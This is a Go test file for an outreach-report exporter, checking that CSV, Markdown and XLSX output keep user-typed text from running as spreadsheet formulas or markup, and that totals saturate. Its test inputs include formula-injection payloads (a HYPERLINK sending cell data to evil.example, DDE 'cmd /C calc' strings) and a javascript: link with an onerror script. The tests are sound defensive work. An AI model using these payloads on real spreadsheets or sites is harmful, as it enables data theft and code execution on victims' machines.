package report_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"math"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/pufa-dev/pufa/campaigns"
	"github.com/pufa-dev/pufa/report"
	"github.com/pufa-dev/pufa/store"
)

// hostileCells are texts a spreadsheet would run as formulas, or a
// Markdown renderer would turn into markup, if written as they are.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"点我")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`[点我](javascript:alert(1))<img src=x onerror=alert(1)>`,
}

type fixedLedger []store.LedgerEntry

func (f fixedLedger) LedgerEntries(context.Context, string, string) ([]store.LedgerEntry, error) {
	return f, nil
}

type fixedCounters []store.TopicCount

func (f fixedCounters) DayStats(context.Context, time.Time) (map[string]int64, error) {
	return map[string]int64{}, nil
}

func (f fixedCounters) TopTopics(_ context.Context, day time.Time, _ int) ([]store.TopicCount, error) {
	if day.Format("01-02") != "01-10" {
		return nil, nil
	}
	return f, nil
}

func hostileReport(t *testing.T) report.Report {
	t.Helper()
	var entries []store.LedgerEntry
	var topics []store.TopicCount
	var camps fakeCampaigns
	for i, h := range hostileCells {
		entries = append(entries, store.LedgerEntry{ID: "1", Date: "2026-03-05", Community: h, Kind: "lecture", Count: 1, Participants: 10, Note: h})
		topics = append(topics, store.TopicCount{Topic: h, Count: int64(i + 1)})
		camps = append(camps, campaigns.Stats{ID: "c", Title: h, Runs: []campaigns.RunStats{{Fire: at(2026, 4, 1, 9), Channel: campaigns.ChannelTemplate, Sent: 1}}})
	}
	src := report.Sources{Ledger: fixedLedger(entries), Counters: fixedCounters(topics), Campaigns: report.CampaignPushes{Campaigns: camps}}
	r, err := report.Build(context.Background(), src, at(2026, 1, 1, 0), at(2026, 12, 31, 0))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// formulaStart reports whether a spreadsheet would take s as a formula.
func formulaStart(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// Ledger notes, community names, campaign titles and topics are typed by
// staff or residents; in the CSV none may start a formula.
func TestCSVCellsNeverStartAFormula(t *testing.T) {
	r := hostileReport(t)
	var buf bytes.Buffer
	if err := report.Write(&buf, r, report.FormatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if formulaStart(cell) {
				t.Errorf("CSV cell %q starts a formula", cell)
			}
			for _, h := range hostileCells {
				if cell == "'"+h || strings.HasSuffix(cell, " "+h) {
					found[h] = true
				}
			}
		}
	}
	// The text itself survives, behind the quote, for staff to read.
	for _, h := range hostileCells[:4] {
		if !found[h] {
			t.Errorf("CSV lost the text %q", h)
		}
	}
}

// In the Markdown every table cell is text: no cell starts a formula when
// pasted into a spreadsheet, and no link or HTML comes through as markup.
func TestMarkdownCellsAreText(t *testing.T) {
	r := hostileReport(t)
	var buf bytes.Buffer
	if err := report.Write(&buf, r, report.FormatMarkdown); err != nil {
		t.Fatal(err)
	}
	md := buf.String()
	for _, line := range strings.Split(md, "\n") {
		if !strings.HasPrefix(line, "|") {
			continue
		}
		// Split on unescaped pipes only.
		cells := strings.Split(strings.ReplaceAll(line, `\|`, "\x00"), "|")
		for _, c := range cells[1 : len(cells)-1] {
			c = strings.TrimSpace(strings.ReplaceAll(c, "\x00", `\|`))
			if formulaStart(c) && !strings.HasPrefix(c, "---") {
				t.Errorf("Markdown cell %q starts a formula", c)
			}
		}
	}
	for _, raw := range []string{"<img", "](javascript:", "\r"} {
		if i := strings.Index(md, raw); i >= 0 && (i == 0 || md[i-1] != '\\') {
			t.Errorf("Markdown carries %q as markup", raw)
		}
	}
	if !strings.Contains(md, `\=HYPERLINK`) || !strings.Contains(md, `\<img src`) {
		t.Errorf("hostile text not kept as escaped text:\n%s", md)
	}
}

// The XLSX writes typed text as string cells, never as formulas, so the
// same notes and names stay inert there too.
func TestXLSXHostileTextIsNoFormula(t *testing.T) {
	r := hostileReport(t)
	var buf bytes.Buffer
	if err := report.Write(&buf, r, report.FormatXLSX); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(report.SheetLedger)
	if err != nil {
		t.Fatal(err)
	}
	notes := 0
	for i, row := range rows {
		for j, v := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, _ := f.GetCellFormula(report.SheetLedger, cell); formula != "" {
				t.Errorf("%s is a formula %q", cell, formula)
			}
			if v == hostileCells[0] {
				notes++
			}
		}
	}
	if notes == 0 {
		t.Error("the hostile note is not in the ledger sheet as text")
	}
}

// Entries stored before the input bounds existed may hold absurd counts;
// the sums saturate at the int64 maximum instead of wrapping to zero or
// below and hiding the real lectures.
func TestSumsSaturate(t *testing.T) {
	entries := []store.LedgerEntry{
		{ID: "1", Date: "2026-03-05", Community: "幸福社区", Kind: "lecture", Count: math.MaxInt64, Participants: math.MaxInt64},
		{ID: "2", Date: "2026-03-06", Community: "幸福社区", Kind: "lecture", Count: 2, Participants: 80},
		{ID: "3", Date: "2026-03-07", Community: "幸福社区", Kind: "consult", Count: math.MaxInt64},
	}
	camps := fakeCampaigns{{ID: "c", Title: "t", Runs: []campaigns.RunStats{
		{Fire: at(2026, 4, 1, 9), Channel: campaigns.ChannelTemplate, Sent: math.MaxInt64},
		{Fire: at(2026, 4, 2, 9), Channel: campaigns.ChannelTemplate, Sent: 5},
	}}}
	src := report.Sources{Ledger: fixedLedger(entries), Campaigns: report.CampaignPushes{Campaigns: camps},
		Counters: bigCounters{}, Quiz: fakeQuiz{{ID: "q", Start: at(2026, 5, 1, 0), Participants: math.MaxInt64, Answers: math.MaxInt64, Correct: math.MaxInt64}, {ID: "q2", Start: at(2026, 5, 2, 0), Participants: 3, Answers: 3, Correct: 3}}}
	r, err := report.Build(context.Background(), src, at(2026, 1, 1, 0), at(2026, 12, 31, 0))
	if err != nil {
		t.Fatal(err)
	}
	march := r.Months[2]
	var lectures report.KindTotal
	for _, k := range r.Kinds {
		if k.Kind == "lecture" {
			lectures = k
		}
	}
	for _, c := range []struct {
		name string
		got  int64
	}{
		{"totals.activities", r.Totals.Activities}, {"totals.activity_participants", r.Totals.ActivityParticipants},
		{"totals.lectures", r.Totals.Lectures}, {"march.lectures", march.Lectures},
		{"community.lectures", r.Communities[0].Lectures}, {"kind.count", lectures.Count}, {"kind.participants", lectures.Participants},
		{"totals.reach", r.Totals.Reach}, {"totals.quiz_participants", r.Totals.QuizParticipants},
		{"totals.questions", r.Totals.Questions}, {"consultations total", r.Totals.ConsultationsTotal()},
	} {
		if c.got != math.MaxInt64 {
			t.Errorf("%s = %d, want the saturated %d", c.name, c.got, int64(math.MaxInt64))
		}
	}
	if r.Totals.QuizAccuracy < 99 || r.Totals.QuizAccuracy > 100 {
		t.Errorf("quiz accuracy = %v", r.Totals.QuizAccuracy)
	}
	if strings.Contains(r.Paragraph, "-") {
		t.Errorf("paragraph shows a negative figure: %s", r.Paragraph)
	}
}

// bigCounters reports a day counter near the int64 maximum every day.
type bigCounters struct{}

func (bigCounters) DayStats(context.Context, time.Time) (map[string]int64, error) {
	return map[string]int64{store.MetricQuestions: math.MaxInt64 / 2, store.MetricConsultations: math.MaxInt64 / 2}, nil
}

func (bigCounters) TopTopics(context.Context, time.Time, int) ([]store.TopicCount, error) {
	return []store.TopicCount{{Topic: "x", Count: math.MaxInt64 / 2}}, nil
}
